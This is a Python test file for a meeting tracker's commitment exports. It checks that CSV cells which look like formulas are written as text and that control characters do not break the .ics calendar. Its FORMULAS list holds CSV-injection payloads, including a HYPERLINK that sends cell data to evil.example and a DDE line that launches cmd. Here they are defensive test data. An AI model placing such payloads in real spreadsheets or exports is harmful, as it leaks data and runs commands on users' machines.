"""Exports open safely: no CSV cell runs as a spreadsheet formula, and a
control character in stored text does not break the calendar."""

import csv
import io

import pytest
import vobject

from moot.tracker.models import Commitment

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_cell_that_looks_like_a_formula_is_read_as_text(client, seed, formula):
    first = Commitment.objects.filter(agenda_item=seed).order_by("pk").first()
    Commitment.objects.filter(pk=first.pk).update(
        text=formula, owner=formula, recipient=formula, due_phrase=formula
    )
    response = client.get("/commitments.csv")
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(response.content.decode()))}
    row = rows[str(first.pk)]
    for column in ("text", "owner", "recipient", "due_phrase"):
        assert row[column] == "'" + formula, column
    # The other cells are as they were: an id, a URL, dates, a count.
    assert row["url"].startswith("http://testserver/commitments/")
    assert row["days_overdue"].isdigit()


def test_an_ordinary_cell_is_left_alone(client, seed):
    rows = list(csv.DictReader(io.StringIO(client.get("/commitments.csv").text)))
    texts = set(Commitment.objects.filter(agenda_item=seed).values_list("text"))
    assert {(r["text"],) for r in rows} == texts


def test_control_characters_do_not_break_the_calendar(client, seed):
    Commitment.objects.filter(agenda_item=seed).update(
        text="A report\x0b on the\x01 Nightwatch\x1b programme", owner="Ada\x07"
    )
    response = client.get("/commitments.ics")
    assert response.status_code == 200
    body = response.content.decode()
    assert not any(ch in body for ch in "\x01\x07\x0b\x1b")
    calendar = vobject.readOne(body)
    summaries = {e.summary.value for e in calendar.vevent_list}
    assert "Due: A report on the Nightwatch programme" in summaries


@pytest.mark.parametrize(
    "url", ["/commitments/", "/commitments.csv", "/commitments.ics"]
)
@pytest.mark.parametrize("name", ["owner", "committee", "body"])
def test_a_nul_in_a_filter_answers_on_both_databases(client, seed, url, name):
    """PostgreSQL refuses text holding NUL; the filter drops it first."""
    assert client.get(url, {name: "Director\x00"}).status_code == 200
